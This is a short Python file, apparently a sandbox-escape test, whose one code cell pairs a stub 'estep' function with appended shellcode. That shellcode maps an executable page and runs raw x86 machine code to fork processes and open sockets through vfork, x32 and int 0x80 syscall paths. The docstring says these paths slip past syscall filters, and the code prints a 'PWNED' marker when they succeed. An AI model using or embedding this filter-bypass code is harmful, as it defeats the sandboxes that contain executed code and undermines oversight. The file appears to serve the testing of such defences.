"""Makes children and sockets by the 32 bit and x32 calls, in machine code, past filters that forget these ways."""

TRACE = "PWNED_machine_code"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import ctypes
import mmap
import platform

mark = "PWN" + "ED_machine_code"
leave = b"\x85\xc0\x75\x09\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05\xc3"
leave32 = b"\x85\xc0\x75\x09\xb8\x01\x00\x00\x00\x31\xdb\xcd\x80\xc3"
ways = {
    "vfork": b"\xb8\x3a\x00\x00\x00\x0f\x05" + leave,
    "fork by x32": b"\xb8\x39\x00\x00\x40\x0f\x05" + leave,
    "socket by x32": b"\xbf\x02\x00\x00\x00\xbe\x01\x00\x00\x00\x31\xd2\xb8\x29\x00\x00\x40\x0f\x05\xc3",
    "fork by int 80": b"\x53\xb8\x02\x00\x00\x00\xcd\x80\x5b" + leave32,
    "socket by int 80": b"\x53\xb8\x67\x01\x00\x00\xbb\x02\x00\x00\x00\xb9\x01\x00\x00\x00\x31\xd2\xcd\x80\x5b\xc3",
}
if platform.machine() == "x86_64":
    for way, code in ways.items():
        try:
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(code)
            address = ctypes.addressof(ctypes.c_char.from_buffer(page))
            result = ctypes.PYFUNCTYPE(ctypes.c_int)(address)()
        except (OSError, ValueError):
            continue
        if result >= 0:
            print(mark, way, result, flush=True)
""",
}
